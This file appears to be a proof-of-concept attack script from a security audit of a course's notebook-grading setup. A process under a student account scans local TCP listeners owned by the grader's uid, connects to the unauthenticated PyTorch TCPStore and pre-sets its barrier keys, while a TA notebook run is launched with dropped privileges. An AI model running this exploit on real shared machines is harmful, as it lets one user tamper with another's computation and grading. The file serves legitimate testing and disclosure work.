"""Lead: helpers.launch's ranks (in the TA's own runs: make lab, nbval, nbconvert of a solution) rendezvous through a
TCPStore on the host's 127.0.0.1 with no authentication. st53u connects to each new listener of the TA's uid as a
TCPStore client and sets the launcher's barrier keys (done/<r>, left/<r>) for ranks 0-3 ahead of time. The TA runs
`jupyter nbconvert --execute` of source/ps1_memory with the IPC fix of a03 (so only ranks' ports are TCP). Does the
TA's run notice (a cell error, a hang), and does the student read any key?"""
import os as _o, shutil as _s
_o.makedirs("/tmp/attack53-user-fixcfg", mode=0o700, exist_ok=True)
_s.copy(_o.path.join(_o.path.dirname(_o.path.abspath(__file__)), "a03_jupyter_config.py"), "/tmp/attack53-user-fixcfg/jupyter_config.py")
_o.chown("/tmp/attack53-user-fixcfg", 65534, 65534); _o.chown("/tmp/attack53-user-fixcfg/jupyter_config.py", 65534, 65534)

import os, subprocess, sys, time
CLONE = (__import__("os").environ.get("ATTACK_USER_CLONE") or __import__("os").path.abspath(__import__("os").path.join(__import__("os").path.dirname(__import__("os").path.abspath(__file__)), "..", "..", "..", "..")))
STUDENT = r'''
import time, os, datetime
import torch.distributed as dist
seen, hits = set(), []
end = time.time() + 50
while time.time() < end:
    for line in open("/proc/net/tcp").read().splitlines()[1:]:
        p = line.split()
        if p[3] == "0A" and int(p[7]) == 65534:
            port = int(p[1].split(":")[1], 16)
            if port in seen: continue
            seen.add(port)
            try:
                s = dist.TCPStore("127.0.0.1", port, is_master=False, timeout=datetime.timedelta(seconds=1), wait_for_workers=False)
                n = s.num_keys()
                for r in range(4):
                    s.set(f"done/{r}", "1"); s.set(f"left/{r}", "1")
                hits.append((port, n))
            except Exception as e:
                hits.append((port, type(e).__name__))
    time.sleep(0.005)
print("STORES", hits)
'''
open("/tmp/attack53-user-student7.py", "w").write(STUDENT); os.chmod("/tmp/attack53-user-student7.py", 0o644)
st = subprocess.Popen(["setpriv", "--reuid", "st53u", "--regid", "st53u", "--clear-groups", f"{CLONE}/.venv/bin/python", "/tmp/attack53-user-student7.py"],
                      cwd="/", env={"PATH": "/usr/bin:/bin", "HOME": "/"}, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
time.sleep(6)
env = {"PATH": f"{CLONE}/.venv/bin:/usr/bin:/bin", "HOME": "/tmp/attack53-user-home", "LANG": "C.UTF-8", "JUPYTER_CONFIG_PATH": "/tmp/attack53-user-fixcfg", "DISTCOURSE_JUDGE": "kernel"}
t = time.time()
r = subprocess.run(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", f"{CLONE}/.venv/bin/jupyter", "nbconvert", "--to", "notebook", "--execute",
                    "--ExecutePreprocessor.allow_errors=True", "--stdout", "source/ps1_memory/ps1_memory.ipynb"], cwd=CLONE, env=env, capture_output=True, text=True, timeout=300)
import json
nb = json.loads(r.stdout) if r.stdout.strip().startswith("{") else {"cells": []}
errs = [(c.get("metadata", {}).get("nbgrader", {}).get("grade_id"), o.get("ename"), str(o.get("evalue"))[:150]) for c in nb["cells"] for o in c.get("outputs", []) if o.get("output_type") == "error"]
print(f"TA's nbconvert rc={r.returncode} in {time.time()-t:.0f}s; error outputs: {errs}")
out, _ = st.communicate(timeout=100)
print("STUDENT:", out[-1500:])
os.unlink("/tmp/attack53-user-student7.py")
